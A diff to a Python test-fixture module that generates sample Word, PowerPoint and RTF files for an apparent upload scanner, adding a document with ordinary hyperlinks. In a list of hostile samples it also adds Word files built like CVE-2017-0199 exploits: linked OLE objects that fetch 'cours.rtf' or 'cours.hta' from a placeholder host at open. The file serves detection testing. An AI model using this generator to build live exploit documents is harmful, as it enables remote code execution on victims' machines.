@@ -97,6 +97,66 @@ def pptx_with_object(blob: bytes, prog_id: str) -> bytes:
     return out.getvalue()
 
 
+HYPERLINK_RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
+W_NAMESPACES = (
+    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
+    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
+)
+
+
+def docx_linking(url: str) -> bytes:
+    """A Word document (python-docx) with a linked object as CVE-2017-0199's documents carry one: no
+    embedded file, an `oleObject` relationship whose target is `url` (TargetMode External) and the
+    `o:OLEObject Type="Link"` Word updates from it at open."""
+    import docx
+    from docx.oxml import parse_xml
+
+    document = docx.Document()
+    document.add_paragraph("Voici le document du cours :")
+    rid = document.part.relate_to(url, OLE_RELATIONSHIP, is_external=True)
+    document.add_paragraph().add_run()._r.append(
+        parse_xml(
+            f'<w:object {W_NAMESPACES} xmlns:v="urn:schemas-microsoft-com:vml"'
+            ' xmlns:o="urn:schemas-microsoft-com:office:office" w:dxaOrig="1520" w:dyaOrig="960">'
+            '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:48pt" o:ole=""/>'
+            '<o:OLEObject Type="Link" ProgID="Word.Document.8" ShapeID="_x0000_i1025" DrawAspect="Content"'
+            f' r:id="{rid}" UpdateMode="Always"><o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object>'
+        )
+    )
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def docx_with_hyperlinks(*urls: str) -> bytes:
+    """A Word document (python-docx) whose text links to web pages as Word writes links (Insert > Link): a
+    `hyperlink` relationship per URL, TargetMode External, and the `w:hyperlink` that shows it."""
+    import docx
+    from docx.oxml import parse_xml
+
+    document = docx.Document()
+    document.add_paragraph("Sources de l'exposé :")
+    for url in urls:
+        rid = document.part.relate_to(url, HYPERLINK_RELATIONSHIP, is_external=True)
+        document.add_paragraph()._p.append(
+            parse_xml(
+                f'<w:hyperlink {W_NAMESPACES} r:id="{rid}" w:history="1"><w:r><w:rPr><w:rStyle w:val="Hyperlink"/>'
+                f"</w:rPr><w:t>{url.replace('&', '&amp;')}</w:t></w:r></w:hyperlink>"
+            )
+        )
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+SOURCES = (
+    "https://fr.wikipedia.org/wiki/Cycle_de_l%27eau",
+    "https://www.meteofrance.fr/actualites?page=2&tri=date",
+    "http://eduscol.education.fr/",
+    "mailto:professeur@college-exemple.fr",
+)
+
+
 def _docx_embedding_a_pdf() -> bytes:
     """An exposé with its PDF embedded as Word embeds one when Acrobat is installed (AcroExch.Document)."""
     return docx_with_object(ole.embedded_pdf(_pdf()), ole.ACROBAT_PROG_ID)
@@ -426,6 +486,7 @@ _PRODUCED: list[tuple[str, str, str, str, Callable[[Path], bytes]]] = [
     ("xlsx", "notes.xlsx", XLSX, XLSX, lambda _: _xlsx()),
     ("pptx", "volcans.pptx", PPTX, PPTX, lambda _: _pptx()),
     ("docx-embedded-pdf", "expose.docx", DOCX, DOCX, lambda _: _docx_embedding_a_pdf()),
+    ("docx-external-hyperlinks", "expose.docx", DOCX, DOCX, lambda _: docx_with_hyperlinks(*SOURCES)),
     ("pptx-packaged-pdf", "volcans.pptx", PPTX, PPTX, lambda _: _pptx_packaging_a_pdf()),
     ("rtf-embedded-pdf-and-picture", "expose.rtf", RTF, RTF, lambda _: _rtf_embedding_a_pdf()),
     ("odt", "redaction.odt", ODT, ODT, lambda _: _odt()),
@@ -488,6 +549,11 @@ _HOSTILE: list[tuple[str, str, str, str, Callable[[], bytes]]] = [
                                              ole.ACROBAT_PROG_ID, update=True))),
     ("program-package-in-an-rtf", "expose.rtf", RTF, "executable",
      lambda: ole.rtf_document(ole.rtf_object(ole.ole1_package("devoir.pdf.exe", ole.PROGRAM)))),
+    # Linked objects (CVE-2017-0199): Word fetches what the link names at open and runs it.
+    ("linked-object-in-a-docx", "expose.docx", DOCX, "archive_malformed",
+     lambda: docx_linking("http://exemple.invalid/cours.rtf")),
+    ("linked-ole-object-in-a-docx", "expose.docx", DOCX, "archive_malformed",
+     lambda: docx_with_object(ole.linked_object("http://exemple.invalid/cours.hta"), "Word.Document.8")),
 ]  # fmt: skip
 
 
